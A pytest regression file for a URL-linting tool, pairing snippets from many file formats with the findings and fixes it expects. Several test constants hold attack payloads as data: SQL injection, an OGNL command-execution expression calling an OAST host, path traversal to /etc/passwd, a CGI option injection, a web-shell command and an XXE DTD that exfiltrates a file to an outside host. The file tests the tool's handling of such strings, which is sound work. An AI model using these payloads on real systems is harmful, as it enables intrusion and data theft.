"""Findings and fixes that were wrong on real repositories and on files of
their real shapes, found from 2026-11-29's session on (sweeps 193 to 203).

Evidence in the sweeps' repro folders (/work/sweepNN/repro), not in the repo.
"""

from __future__ import annotations

import pytest

from helpers import assert_triaged, findings, stable_fix

# Minecraft's formatting codes around a URL in a chat message or a form's
# body: "§b" before it is no part of the scheme ("bhttps"), "§r§f" after
# it is markup, not the path's or the host's (sweep 195:
# 8Crafter's Server-Utilities, a LabyMod addon). A "§" inside a path stays.
MINECRAFT_CODES = (
    'form.body("§aWiki: §bhttps://wiki.example.com/andexdb/§r\\n§aSite: §bhttps://www.example.com§r");\n'
    'return s.indexOf("§6Info: §r§f§nhttp://plots.example.net/§r§f§n §r") >= 0;\n'
    'const plot = "§bhttps://plots.example.net/%7eplot§r§f";\n'
    'const law = "https://example.com/gesetz/§_1";\n'
)
# Ren'Py's text tags end a URL: "{/a}" closes the link, "{w}" waits; the
# Korean particle after the tag is no part of the path (sweep 195:
# renpy/renpy's tutorial translations).
RENPY_TAGS = (
    'translate korean start_a1b2c3d4:\n'
    '    e "너는 {a=https://www.renpy.org/}https://www.renpy.org/{/a}에서 새 버전을 받아."\n'
    '    e "官网：https://www.renpy.org/{w}点击 https://example.com/%7euser"\n'
)
# A Markdown table in a comment (GDScript's "##" doc comments, which
# escoria renders): its "|" ends the URL's cell, as in a Markdown file
# (sweep 195). A bar in a URL of a comment's prose is still reported.
COMMENT_TABLE = (
    '## | Name | Description | Required? |\n'
    '## |:-----|:------------|:----------|\n'
    '## |time|For more details see: https://docs.example.org/camera|no|\n'
    '# see https://fonts.example.com/css?family=A|B\n'
)

# An image name form-encoded ("+" for a blank) and then percent-encoded,
# as Blogger and Squarespace publish it: its "%2528" is the name's own
# "%28" (sweep 195: 18 findings in an RPG Maker plugin's read-me). A
# "%2520" in another segment or in a query value with nothing encoded once
# beside it is still double encoding (one beside a "%2B" is a value encoded
# once as a whole, a CDX server's resumeKey: sweep 213).
BLOGGER_NAME = (
    '![menu](https://blogger.googleusercontent.com/img/b/R29v/s1600/2018-04-21%2B%25281%2529.png)\n'
    '[x](https://example.com/a%2520b/c%2Bd.png?q=%2B%2520&r=%2520)\n'
)

# A regular expression's "\S+" after a scheme, in Ren'Py's Python
# (renpy/renpy's launcher/game/mobilebuild.rpy, sweep 195): a pattern, not
# a URI with a raw backslash; a pasted Windows path's "\Share" is still one.
REGEX_CLASS = (
    "init python:\n"
    "    def linkify(prompt):\n"
    "        return re.sub(r'(http://\\S+)', r'{a=\\1}\\1{/a}', prompt)\n"
    "# share: http://files.example.com/docs\\Share\n"
)

# Arch's package recipes and pacman's install scripts are bash without a
# "#!" line (sweep 193: archlinuxcn/repo, arch4edu, chaotic-aur,
# BlackArch): an "echo -e" escape ends a URL, "\$" in a heredoc is a
# dollar, a sed line's "|" and "&" are its delimiters, "{core,g++}" a
# brace expansion. A Drupal module's ".install" is PHP.
PACMAN_SCRIPT = (
    'post_install() {\n'
    '  echo -e "\\e[1;33m==>\\e[0m Please read: \\e[1;36mhttps://docs.example.net/ftldns/configfile/\\e[0m"\n'
    '  cat <<EOF\n'
    '    export DOCKER_HOST=unix://\\$XDG_RUNTIME_DIR/docker.sock\n'
    'EOF\n'
    '  echo "see https://example.com/%7euser"\n'
    '}\n'
)
ARCH_RECIPE = (
    'pkgname=libstdc++5\n'
    'source=(ftp://gcc.example.org/pub/gcc/releases/gcc-$pkgver/gcc-{core,g++}-$pkgver.tar.bz2)\n'
    'url=https://example.com/%7euser\n'
    'prepare() {\n'
    '  sed -i "6s|https\\\\\\://services.example.org/distributions|../../../|" gradle-wrapper.properties\n'
    '  sed -E -e \'s&"https://github.com/\\S+/LICENSE"&"$_url/LICENSE"&\' -i aboutdialog.cpp\n'
    '}\n'
)

# git's pretty-format placeholders in a log format, wherever the command
# stands (sweep 193: a PKGBUILD's changelog, a CI job, a Markdown comment,
# a bot's code): "%H" is the commit's hash, "%ae" its author's address,
# not malformed or non-UTF-8 octets. A "%e9" elsewhere is still an octet.
GIT_FORMATS = (
    "release:\n"
    "  script:\n"
    '    - git log --pretty=format:"- [%h](https://gitlab.com/a/b/-/commit/%H) %s" > CHANGES.md\n'
    "    - git log --format=' - `%h`: *%s* by [**%an**](mailto:%ae).' v1..v2\n"
    "    - curl https://example.com/caf%e9\n"
)

# BibTeX's braced TeX escapes in a field: Mendeley's export writes every
# special character so ("{\_}", "{\&}", "{\%}", "{~}"), the ACL Anthology
# an abstract's "_" (sweep 194: 75 findings of raw braces). A ".bibtex" or
# ".biblatex" file is BibTeX too. An octet is still read.
BIB_BRACES = (
    '@article{Mairal2010,\n'
    'url = {http://lear.example.fr/people/mairal/pdf/review{\\_}sparse{\\_}arxiv.pdf},\n'
    'note = {http://www.example.nih.gov/articlerender.fcgi?artid=3366862{\\&}tool=pmcentrez{\\%}3D},\n'
    'howpublished = {http://web.example.edu/{~}richiard/a%41b.pdf},\n'
    '}\n'
)
BIBTEX_ESCAPES = (
    '@book{Ogden1923,\n'
    '  url = {http://courses.example.edu/2004spring/mas966/Ogden\\%20Richards\\_1923%41.pdf},\n'
    '}\n'
)
# DocumenterCitations' links: a style after "@cite" ("@cite%authoryear%")
# is no malformed octet (sweep 194: 39 findings in its gallery).
DOCUMENTER_CITE = (
    '* [GoerzQ2022](@cite%authoryear%) and [GoerzQ2022](@citet*%alpha%)\n'
    '* [GoerzQ2022](@Citet%keylabels%) [x](https://example.com/%7euser)\n'
)
# A MyST directive that shows its source beside its rendering: a fix would
# rewrite the example readers copy (sweep 194: MyST-Parser's docs). The
# same link after the directive's closing fence keeps its fix.
MYST_EXAMPLE = (
    '::::{myst-example}\n'
    '[Link to a term](<#my other term>)\n'
    '::::\n'
    '\n'
    '[Link to a term](<#my other term>)\n'
)
# TeX: "%" at the end of a comment's line is no part of a URL in it
# (hyperref's "issues%%", sweep 194); Documenter's "\href{@ref Foo.bar}"
# is a cross-reference, no URI.
TEX_LINE_END = (
    '%      https://github.com/latex3/hyperref/issues%%\n'
    '% see https://example.com/%7euser%\n'
    'Docstrings: \\href{@ref Foo.bar}{\\texttt{foobar}}.\n'
)
# A test's literal that is a piece of an XML attribute: the other quote
# after the URL closes the attribute, no raw '"' (sweep 194: astropy).
XML_FRAGMENT = (
    "assert 'http://www.ivoa.net/xml/VOTable/VOTable-1.3.xsd\"' in xml\n"
    "assert 'http://example.com/%7euser\"' in xml\n"
)
# A template in an embedded URI: docutils reads no URI holding a ">"
# (sweep 194: astropy's releasing.rst).
RST_TEMPLATE = (
    '`What\'s New in Astropy <current_version>?\n'
    '<https://docs.astropy.org/en/v<current_version.0>/whatsnew/<current_version>.html>`__\n'
    '`Docs <https://docs.example.org/%7euser/>`__\n'
)

# Attack payloads the detector missed, whose safe fixes rewrote the bytes
# a scanner sends (sweep 196: nuclei templates, write-ups): SQL joined by
# encoded comments, MySQL's load_file, an OGNL expression a URL stands in,
# a PHP wrapper, CVE-2012-1823's CGI option, overlong dots, a web shell's
# command. A plain URL beside them keeps its safe fix.
PAYLOAD_SHAPES = (
    'payloads:\n'
    "  - 'http://192.168.1.13/sqli.php?id=1%27%2b%28%28select%20load%5ffile%28%27%5c%5c%27%29%29%29'\n"
    "  - 'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d\"http://{{Host}}.oast.example/r%3d\"} HTTP/1.1'\n"
    '  - http://127.0.0.1:4848/theme/META-INF%2f%25c0%25ae%25c0%25ae%2fetc%2fpasswd\n'
    '  - http://victim.example/php-nuke/?%2f**%2funion%2f**%2fselect\n'
    '  - http://chal.example:50008/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\n'
    '  - http://chal.example:8082/data/avatar.png%3fhacked.php?cmd=ls\n'
    '  - https://example.com/a%3fb\n'
)
# An XML DTD's parameter entity references in an entity's value: an XXE
# payload's exfiltration URL, not malformed or non-UTF-8 octets (sweep 196).
XXE_ENTITIES = (
    '<!ENTITY % file SYSTEM "file:///sys/power/image_size">\n'
    '<!ENTITY % all "<!ENTITY send SYSTEM \'http://public.example.com/?%file;\'>">\n'
    '<!ENTITY % data "<!ENTITY exfil SYSTEM \'http://10.10.10.10/dtd.xml?%data;&x=%e9\'>">\n'
    '%all;\n'
)
# PHP's filter chain: "|" joins php://filter's filters (sweep 196: LFI
# payloads); a "|" in another URL is still reported.
PHP_FILTERS = (
    "$s = file_get_contents('php://filter/read=string.toupper|string.rot13/resource=data.txt');\n"
    "$u = 'https://example.com/a|b';\n"
)

# A JSP's "<%! ... %>" declarations longer than a template expression's
# usual reach: still code, whose Java string builds an attribute (sweep
# 196: fuzzdb's browser.jsp read as HTML from 8 KB on gave an href '\""').
LONG_CODE_BLOCK = (
    '<%@ page import="java.io.*" %>\n<%!\n'
    + ''.join(f'    static final String FILLER_{k} = "line {k} of a long declaration block";\n' for k in range(200))
    + '    String link(String browserLink) {\n'
    '        return "<a href=\\"" + browserLink + "\\">" + "up" + "</a>";\n'
    '    }\n%>\n<a href="https://example.com/%7euser">home</a>\n'
)
# A URL among a link's words: no autolink forms inside a link's text, so
# its backslash escapes are read (sweep 196: hacktricks' GitBook export);
# so is "\*" whose "*" the URL's end dropped. Autolinked in running text,
# GFM keeps the backslash in the link: still reported.
LINK_TEXT_ESCAPES = (
    '* [see https://e.org/a\\_b/ here](https://e.org/a_b/)\n'
    '**Steps:** [**https://www.example.in/wordpress-reverse-shell/\\*\\***](https://www.example.in/wordpress-reverse-shell/)\n'
    'Running text: https://e.org/c\\_d\n'
)

# What a web server matches a request against as written gets no safe
# fix (sweep 198): an nginx map's key, an "if ($http_referer = ...)"
# operand, valid_referers' argument; Netlify's redirect source. A map's
# value and a redirect's target keep theirs.
NGINX_MATCHED = (
    'map $http_referer $bad_referer {\n'
    '    default 0;\n'
    '    "https://spam.example.com/%7espam/" 1;\n'
    '}\n'
    'map $request_uri $new_uri {\n'
    '    "~^/doc/old$" "https://www.example.com/search?q=site%3Aexample%2Enet";\n'
    '}\n'
    'server {\n'
    '    if ($http_referer = "https://spam.example.net/%7ex") { return 403; }\n'
    '    valid_referers none blocked https://good.example.com/%7egood/;\n'
    '}\n'
)
NETLIFY_REDIRECTS = (
    'https://old.example.com/%7ealice/*   https://new.example.com/~alice/:splat   301!\n'
    '/docs/old   https://docs.example.com/a%2db   302\n'
)
NETLIFY_TOML = (
    '[[redirects]]\n'
    '  from = "https://old.example.com/%7ealice/*"\n'
    '  to = "https://new.example.com/%7ealice/:splat"\n'
)
# An RSS item without a <guid> is known by its <link> too: a fixed one
# shows as a new item (sweep 198). With a guid, the link keeps its fix.
GUIDLESS_LINK = (
    '<rss version="2.0"><channel>\n'
    '  <link>https://example.com/%7eblog/</link>\n'
    '  <item>\n'
    '    <title>No guid</title>\n'
    '    <link>https://example.com/posts/%7eone</link>\n'
    '  </item>\n'
    '  <item>\n'
    '    <link>https://example.com/posts/%7etwo</link>\n'
    '    <guid isPermaLink="false">post-2</guid>\n'
    '  </item>\n'
    '</channel></rss>\n'
)
# A bullet for a dot in a host defangs a URL in a filter list's comment
# (DandelionSprout's adfilt, sweep 199): no URI, as "evil[.]com" is none.
# One in a path is no dot's place (a separator: sweep 203): reported.
BULLET_DEFANGED = (
    '! Title: probe\n'
    '! https://www\u2022nrk.no/vestfoldogtelemark/1.15750360\n'
    '! https://github.com/privacytests/privacytests\u2022org/issues/184\n'
    '||example.com^$removeparam=ref\n'
)
# A search tool's placeholders, a whole query value: SearchJumper's "%T"
# (an image's URL) and a script's "%q%", replaced before any request
# (sweep 199). A path's "%u" stays a finding.
SEARCH_PLACEHOLDER_LETTERS = (
    'var sites = [\n'
    '  {"url": "https://www.example.com/searchbyimage?sbisrc=cr&image_url=%T"},\n'
    '  {"url": "https://www.example.jp/music/list/?tr=%q%&type=search".replace(/%q%/, q)},\n'
    '  {"url": "https://web.example.org/web/*/%u"},\n'
    '];\n'
)

# Sweep 197's regression pair: what today's rules must not reach. PayPal's
# donate link's "?cmd=_donations" is no web shell's command; bash's
# "${#args[@]}" is no OGNL expression; an attribute's "format=" is no git
# format; a Haskell doc comment's "-- |" is no table row (no delimiter row
# above); a "§" ending a path with no formatting code before the URL is
# a real one.
OVER_REACH_197 = (
    '- [Donate](https://www.paypal.com/cgi-bin/webscr?cmd=_donations&business=m%2epociot%40example%2ecom&bn=PP%2dDonationsBF%3abtn_donate)\n'
    '    n=${#args[@]}; curl "https://e.org/a%2fb%7e"\n'
    '<p><time data-format="relative">2024</time> <a href="https://e.org/caf%e9/%d0%bf">caf</a></p>\n'
    '-- | Load fonts from https://fonts.example.com/css?family=Roboto|Lato for the page.\n'
    'Paragraph link: https://e.org/gesetz/\u00a71 here.\n'
)

# A mail merge's or Windows' placeholder in camel case where a value
# starts: "mailto:%CompanyEmail%", "?id=%DeviceId%" (sweep 200: drafter's
# fixtures; "%De" was read as windows-1252). Inside a segment it is no
# placeholder.
CAMEL_PERCENT_NAMES = (
    '<a href="mailto:%CompanyEmail%">Mail us</a>\n'
    '<a href="https://e.org/devices?id=%DeviceId%">Device</a>\n'
    '<a href="https://e.org/a%DeviceId%">Octets</a>\n'
)
# A placeholder's angle brackets written as character references in an
# attribute: no fix encodes them (sweep 201: terraform-aws-eks' diagram).
ESCAPED_ANGLE_PLACEHOLDER = (
    '<svg><a href="http://kubernetes.io/cluster/&lt;cluster-name&gt;"><text>x</text></a>\n'
    '<a href="https://e.org/users/&lt;id&gt;/edit?x=%7e"><text>y</text></a></svg>\n'
)

# A Liquid or Django comment block is template code, not markup: no fix
# inside it (sweep 202: w3c/wai-website, hydejack). After its end tag,
# markup is read again.
COMMENT_BLOCK = (
    '{% comment %}\n'
    'Fill in `href`.\n'
    '<link href="https://example.com/assets/my styles.css" rel="preload" as="style">\n'
    '{% endcomment %}\n'
    '<link href="https://example.com/assets/my styles.css" rel="stylesheet">\n'
)
# A value that is a path to fill in, in angle brackets (hydejack's
# my-head.html): a placeholder, as "<link_8>" is.
ANGLE_PATH_PLACEHOLDER = (
    '<link href="<path/to/content.css>" rel="preload" as="style">\n'
    '<a href="https://e.org/a b">x</a>\n'
)
# Sweep 203's regression pair: a code literal ending in a stray quote is
# a typo unless the literal is looked for in a text; a git format's
# placeholders stop where its argument does (";", a closing quote, a code
# span's end); a bullet defangs a host, not a path it separates; a "§"
# ending a path is a formatting code only glued after one before the URL.
OVER_REACH_203 = (
    "A = 'https://example.com/page?id=5\"'\n"
    "os.system('git log --oneline --format=%h; wget https://example.com/files/na%efve.txt')\n"
    "# Use `git log --format=%H` to list hashes; our page is https://example.com/caf%e9 (Latin-1).\n"
    'PREFIX = "\u00a7bServer"; LAW = "Read https://example.com/wiki/Chapter\u00a71"\n'
    'MENU = "Home\u2022https://example.com/%7euser\u2022About"\n'
)

SWEEP193_CASES = [
    (MINECRAFT_CODES, 'src/ui/about.js', [(3, 43, 'URI002'), (4, 41, 'URI005')],
     'form.body("§aWiki: §bhttps://wiki.example.com/andexdb/§r\\n§aSite: §bhttps://www.example.com§r");\nreturn s.indexOf("§6Info: §r§f§nhttp://plots.example.net/§r§f§n §r") >= 0;\nconst plot = "§bhttps://plots.example.net/~plot§r§f";\nconst law = "https://example.com/gesetz/§_1";\n',
     'form.body("§aWiki: §bhttps://wiki.example.com/andexdb/§r\\n§aSite: §bhttps://www.example.com§r");\nreturn s.indexOf("§6Info: §r§f§nhttp://plots.example.net/§r§f§n §r") >= 0;\nconst plot = "§bhttps://plots.example.net/~plot§r§f";\nconst law = "https://example.com/gesetz/%C2%A7_1";\n'),
    (RENPY_TAGS, 'game/tl/korean/script.rpy', [(3, 59, 'URI002')],
     None,
     'translate korean start_a1b2c3d4:\n    e "너는 {a=https://www.renpy.org/}https://www.renpy.org/{/a}에서 새 버전을 받아."\n    e "官网：https://www.renpy.org/{w}点击 https://example.com/~user"\n'),
    (COMMENT_TABLE, 'addons/camera_set_zoom_height.gd', [(4, 45, 'URI004')],
     None,
     '## | Name | Description | Required? |\n## |:-----|:------------|:----------|\n## |time|For more details see: https://docs.example.org/camera|no|\n# see https://fonts.example.com/css?family=A%7CB\n'),
    (BLOGGER_NAME, 'ReadMe/Blog002.md', [(2, 26, 'URI003')],
     None,
     '![menu](https://blogger.googleusercontent.com/img/b/R29v/s1600/2018-04-21%2B%25281%2529.png)\n[x](https://example.com/a%20b/c%2Bd.png?q=%2B%2520&r=%20)\n'),
    (REGEX_CLASS, 'launcher/game/mobilebuild.rpy', [(4, 39, 'URI004')],
     None,
     "init python:\n    def linkify(prompt):\n        return re.sub(r'(http://\\S+)', r'{a=\\1}\\1{/a}', prompt)\n# share: http://files.example.com/docs%5CShare\n"),
    (PACMAN_SCRIPT, 'docker-rootless-extras/docker-rootless-extras.install', [(6, 33, 'URI002')],
     'post_install() {\n  echo -e "\\e[1;33m==>\\e[0m Please read: \\e[1;36mhttps://docs.example.net/ftldns/configfile/\\e[0m"\n  cat <<EOF\n    export DOCKER_HOST=unix://\\$XDG_RUNTIME_DIR/docker.sock\nEOF\n  echo "see https://example.com/~user"\n}\n',
     'post_install() {\n  echo -e "\\e[1;33m==>\\e[0m Please read: \\e[1;36mhttps://docs.example.net/ftldns/configfile/\\e[0m"\n  cat <<EOF\n    export DOCKER_HOST=unix://\\$XDG_RUNTIME_DIR/docker.sock\nEOF\n  echo "see https://example.com/~user"\n}\n'),
    (ARCH_RECIPE, 'unciv/PKGBUILD', [(3, 25, 'URI002')],
     'pkgname=libstdc++5\nsource=(ftp://gcc.example.org/pub/gcc/releases/gcc-$pkgver/gcc-{core,g++}-$pkgver.tar.bz2)\nurl=https://example.com/~user\nprepare() {\n  sed -i "6s|https\\\\\\://services.example.org/distributions|../../../|" gradle-wrapper.properties\n  sed -E -e \'s&"https://github.com/\\S+/LICENSE"&"$_url/LICENSE"&\' -i aboutdialog.cpp\n}\n',
     'pkgname=libstdc++5\nsource=(ftp://gcc.example.org/pub/gcc/releases/gcc-$pkgver/gcc-{core,g++}-$pkgver.tar.bz2)\nurl=https://example.com/~user\nprepare() {\n  sed -i "6s|https\\\\\\://services.example.org/distributions|../../../|" gradle-wrapper.properties\n  sed -E -e \'s&"https://github.com/\\S+/LICENSE"&"$_url/LICENSE"&\' -i aboutdialog.cpp\n}\n'),
    (GIT_FORMATS, '.gitlab-ci.yml', [(5, 35, 'URI007')],
     None,
     'release:\n  script:\n    - git log --pretty=format:"- [%h](https://gitlab.com/a/b/-/commit/%H) %s" > CHANGES.md\n    - git log --format=\' - `%h`: *%s* by [**%an**](mailto:%ae).\' v1..v2\n    - curl https://example.com/caf%C3%A9\n'),
    (DOCUMENTER_CITE, 'docs/src/gallery.md', [(2, 59, 'URI002')],
     '* [GoerzQ2022](@cite%authoryear%) and [GoerzQ2022](@citet*%alpha%)\n* [GoerzQ2022](@Citet%keylabels%) [x](https://example.com/~user)\n',
     '* [GoerzQ2022](@cite%authoryear%) and [GoerzQ2022](@citet*%alpha%)\n* [GoerzQ2022](@Citet%keylabels%) [x](https://example.com/~user)\n'),
    (MYST_EXAMPLE, 'docs/syntax/cross-referencing.md', [(2, 22, 'URI004'), (5, 22, 'URI004')],
     '::::{myst-example}\n[Link to a term](<#my other term>)\n::::\n\n[Link to a term](<#my%20other%20term>)\n',
     '::::{myst-example}\n[Link to a term](<#my other term>)\n::::\n\n[Link to a term](<#my%20other%20term>)\n'),
    (TEX_LINE_END, 'hluatex.dtx', [(2, 27, 'URI002')],
     '%      https://github.com/latex3/hyperref/issues%%\n% see https://example.com/~user%\nDocstrings: \\href{@ref Foo.bar}{\\texttt{foobar}}.\n',
     '%      https://github.com/latex3/hyperref/issues%%\n% see https://example.com/~user%\nDocstrings: \\href{@ref Foo.bar}{\\texttt{foobar}}.\n'),
    (XML_FRAGMENT, 'astropy/io/votable/tests/test_tree.py', [(2, 28, 'URI002')],
     None,
     'assert \'http://www.ivoa.net/xml/VOTable/VOTable-1.3.xsd"\' in xml\nassert \'http://example.com/~user"\' in xml\n'),
    (RST_TEMPLATE, 'docs/development/releasing.rst', [(3, 33, 'URI002')],
     "`What's New in Astropy <current_version>?\n<https://docs.astropy.org/en/v<current_version.0>/whatsnew/<current_version>.html>`__\n`Docs <https://docs.example.org/~user/>`__\n",
     "`What's New in Astropy <current_version>?\n<https://docs.astropy.org/en/v<current_version.0>/whatsnew/<current_version>.html>`__\n`Docs <https://docs.example.org/~user/>`__\n"),
    (BIB_BRACES, 'library.bib', [(4, 53, 'URI002')],
     None,
     '@article{Mairal2010,\nurl = {http://lear.example.fr/people/mairal/pdf/review{\\_}sparse{\\_}arxiv.pdf},\nnote = {http://www.example.nih.gov/articlerender.fcgi?artid=3366862{\\&}tool=pmcentrez{\\%}3D},\nhowpublished = {http://web.example.edu/{~}richiard/aAb.pdf},\n}\n'),
    (BIBTEX_ESCAPES, 'export.bibtex', [(2, 78, 'URI002')],
     None,
     '@book{Ogden1923,\n  url = {http://courses.example.edu/2004spring/mas966/Ogden\\%20Richards\\_1923A.pdf},\n}\n'),
    (PAYLOAD_SHAPES, 'templates/OOB-SQLI-2.yaml', [(2, 42, 'URI001'), (2, 64, 'URI002'), (3, 103, 'URI001'), (4, 41, 'URI001'), (4, 44, 'URI003'), (5, 37, 'URI001'), (6, 52, 'URI001'), (7, 45, 'URI001'), (8, 26, 'URI001')],
     'payloads:\n  - \'http://192.168.1.13/sqli.php?id=1%27%2b%28%28select%20load%5ffile%28%27%5c%5c%27%29%29%29\'\n  - \'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d"http://{{Host}}.oast.example/r%3d"} HTTP/1.1\'\n  - http://127.0.0.1:4848/theme/META-INF%2f%25c0%25ae%25c0%25ae%2fetc%2fpasswd\n  - http://victim.example/php-nuke/?%2f**%2funion%2f**%2fselect\n  - http://chal.example:50008/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\n  - http://chal.example:8082/data/avatar.png%3fhacked.php?cmd=ls\n  - https://example.com/a%3Fb\n',
     'payloads:\n  - \'http://192.168.1.13/sqli.php?id=1%27%2B%28%28select%20load_file%28%27%5C%5C%27%29%29%29\'\n  - \'GET /?redirect:${%23a%3d(new%20java.lang.ProcessBuilder()),%23u%3d"http://{{Host}}.oast.example/r%3D"} HTTP/1.1\'\n  - http://127.0.0.1:4848/theme/META-INF%2F%25c0%25ae%25c0%25ae%2Fetc%2Fpasswd\n  - http://victim.example/php-nuke/?%2F**%2Funion%2F**%2Fselect\n  - http://chal.example:50008/?-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp://input\n  - http://chal.example:8082/data/avatar.png%3Fhacked.php?cmd=ls\n  - https://example.com/a%3Fb\n'),
    (PHP_FILTERS, 'src/read.php', [(2, 28, 'URI004')],
     None,
     "$s = file_get_contents('php://filter/read=string.toupper|string.rot13/resource=data.txt');\n$u = 'https://example.com/a%7Cb';\n"),
    (XXE_ENTITIES, 'XXE/evil.dtd', [(3, 77, 'URI007')],
     None,
     None),
    (LINK_TEXT_ESCAPES, 'network-services-pentesting/links.md', [(3, 30, 'URI004')],
     None,
     '* [see https://e.org/a\\_b/ here](https://e.org/a_b/)\n**Steps:** [**https://www.example.in/wordpress-reverse-shell/\\*\\***](https://www.example.in/wordpress-reverse-shell/)\nRunning text: https://e.org/c%5C_d\n'),
    (NGINX_MATCHED, 'conf/nginx/site.conf', [(3, 31, 'URI002'), (6, 67, 'URI002'), (9, 51, 'URI002'), (10, 58, 'URI002')],
     'map $http_referer $bad_referer {\n    default 0;\n    "https://spam.example.com/%7espam/" 1;\n}\nmap $request_uri $new_uri {\n    "~^/doc/old$" "https://www.example.com/search?q=site%3Aexample.net";\n}\nserver {\n    if ($http_referer = "https://spam.example.net/%7ex") { return 403; }\n    valid_referers none blocked https://good.example.com/%7egood/;\n}\n',
     'map $http_referer $bad_referer {\n    default 0;\n    "https://spam.example.com/~spam/" 1;\n}\nmap $request_uri $new_uri {\n    "~^/doc/old$" "https://www.example.com/search?q=site%3Aexample.net";\n}\nserver {\n    if ($http_referer = "https://spam.example.net/~x") { return 403; }\n    valid_referers none blocked https://good.example.com/~good/;\n}\n'),
    (NETLIFY_REDIRECTS, 'public/_redirects', [(1, 25, 'URI002'), (2, 39, 'URI002')],
     'https://old.example.com/%7ealice/*   https://new.example.com/~alice/:splat   301!\n/docs/old   https://docs.example.com/a-b   302\n',
     'https://old.example.com/~alice/*   https://new.example.com/~alice/:splat   301!\n/docs/old   https://docs.example.com/a-b   302\n'),
    (NETLIFY_TOML, 'netlify.toml', [(2, 35, 'URI002'), (3, 33, 'URI002')],
     '[[redirects]]\n  from = "https://old.example.com/%7ealice/*"\n  to = "https://new.example.com/~alice/:splat"\n',
     '[[redirects]]\n  from = "https://old.example.com/~alice/*"\n  to = "https://new.example.com/~alice/:splat"\n'),
    (GUIDLESS_LINK, 'feed.xml', [(2, 29, 'URI002'), (5, 37, 'URI002'), (8, 37, 'URI002')],
     '<rss version="2.0"><channel>\n  <link>https://example.com/~blog/</link>\n  <item>\n    <title>No guid</title>\n    <link>https://example.com/posts/%7eone</link>\n  </item>\n  <item>\n    <link>https://example.com/posts/~two</link>\n    <guid isPermaLink="false">post-2</guid>\n  </item>\n</channel></rss>\n',
     '<rss version="2.0"><channel>\n  <link>https://example.com/~blog/</link>\n  <item>\n    <title>No guid</title>\n    <link>https://example.com/posts/~one</link>\n  </item>\n  <item>\n    <link>https://example.com/posts/~two</link>\n    <guid isPermaLink="false">post-2</guid>\n  </item>\n</channel></rss>\n'),
    (SEARCH_PLACEHOLDER_LETTERS, 'SearchJumper/searchJumperDefaultConfig.js', [(4, 42, 'URI006')],
     None,
     'var sites = [\n  {"url": "https://www.example.com/searchbyimage?sbisrc=cr&image_url=%T"},\n  {"url": "https://www.example.jp/music/list/?tr=%q%&type=search".replace(/%q%/, q)},\n  {"url": "https://web.example.org/web/*/%25u"},\n];\n'),
    (OVER_REACH_197, 'docs/README.md', [(1, 75, 'URI002'), (1, 120, 'URI001'), (2, 41, 'URI001'), (2, 45, 'URI002'), (3, 71, 'URI007'), (3, 75, 'URI001'), (4, 65, 'URI004')],
     '- [Donate](https://www.paypal.com/cgi-bin/webscr?cmd=_donations&business=m.pociot%40example.com&bn=PP-DonationsBF%3Abtn_donate)\n    n=${#args[@]}; curl "https://e.org/a%2Fb~"\n<p><time data-format="relative">2024</time> <a href="https://e.org/caf%e9/%D0%BF">caf</a></p>\n-- | Load fonts from https://fonts.example.com/css?family=Roboto|Lato for the page.\nParagraph link: https://e.org/gesetz/§1 here.\n',
     '- [Donate](https://www.paypal.com/cgi-bin/webscr?cmd=_donations&business=m.pociot%40example.com&bn=PP-DonationsBF%3Abtn_donate)\n    n=${#args[@]}; curl "https://e.org/a%2Fb~"\n<p><time data-format="relative">2024</time> <a href="https://e.org/caf%C3%A9/%D0%BF">caf</a></p>\n-- | Load fonts from https://fonts.example.com/css?family=Roboto%7CLato for the page.\nParagraph link: https://e.org/gesetz/§1 here.\n'),
    (CAMEL_PERCENT_NAMES, 'fixtures/template.html', [(3, 25, 'URI007'), (3, 34, 'URI006')],
     None,
     '<a href="mailto:%CompanyEmail%">Mail us</a>\n<a href="https://e.org/devices?id=%DeviceId%">Device</a>\n<a href="https://e.org/a%25DeviceId%25">Octets</a>\n'),
    (ESCAPED_ANGLE_PLACEHOLDER, '.github/images/security_groups.svg', [(2, 48, 'URI002')],
     '<svg><a href="http://kubernetes.io/cluster/&lt;cluster-name&gt;"><text>x</text></a>\n<a href="https://e.org/users/&lt;id&gt;/edit?x=~"><text>y</text></a></svg>\n',
     '<svg><a href="http://kubernetes.io/cluster/&lt;cluster-name&gt;"><text>x</text></a>\n<a href="https://e.org/users/&lt;id&gt;/edit?x=~"><text>y</text></a></svg>\n'),
    (COMMENT_BLOCK, '_includes/my-head.html', [(5, 42, 'URI004')],
     '{% comment %}\nFill in `href`.\n<link href="https://example.com/assets/my styles.css" rel="preload" as="style">\n{% endcomment %}\n<link href="https://example.com/assets/my%20styles.css" rel="stylesheet">\n',
     '{% comment %}\nFill in `href`.\n<link href="https://example.com/assets/my styles.css" rel="preload" as="style">\n{% endcomment %}\n<link href="https://example.com/assets/my%20styles.css" rel="stylesheet">\n'),
    (ANGLE_PATH_PLACEHOLDER, '_includes/head.html', [(2, 25, 'URI004')],
     '<link href="<path/to/content.css>" rel="preload" as="style">\n<a href="https://e.org/a%20b">x</a>\n',
     '<link href="<path/to/content.css>" rel="preload" as="style">\n<a href="https://e.org/a%20b">x</a>\n'),
    (BULLET_DEFANGED, 'LegitimateURLShortener.txt', [(3, 47, 'URI005')],
     None,
     '! Title: probe\n! https://www•nrk.no/vestfoldogtelemark/1.15750360\n! https://github.com/privacytests/privacytests%E2%80%A2org/issues/184\n||example.com^$removeparam=ref\n'),
    (OVER_REACH_203, 'scripts/release_probe.py', [(1, 35, 'URI004'), (2, 76, 'URI007'), (3, 80, 'URI007'), (4, 66, 'URI005'), (5, 34, 'URI002'), (5, 41, 'URI005')],
     'A = \'https://example.com/page?id=5"\'\nos.system(\'git log --oneline --format=%h; wget https://example.com/files/na%efve.txt\')\n# Use `git log --format=%H` to list hashes; our page is https://example.com/caf%e9 (Latin-1).\nPREFIX = "§bServer"; LAW = "Read https://example.com/wiki/Chapter§1"\nMENU = "Home•https://example.com/~user•About"\n',
     'A = \'https://example.com/page?id=5%22\'\nos.system(\'git log --oneline --format=%h; wget https://example.com/files/na%C3%AFve.txt\')\n# Use `git log --format=%H` to list hashes; our page is https://example.com/caf%C3%A9 (Latin-1).\nPREFIX = "§bServer"; LAW = "Read https://example.com/wiki/Chapter%C2%A71"\nMENU = "Home•https://example.com/~user%E2%80%A2About"\n'),
]


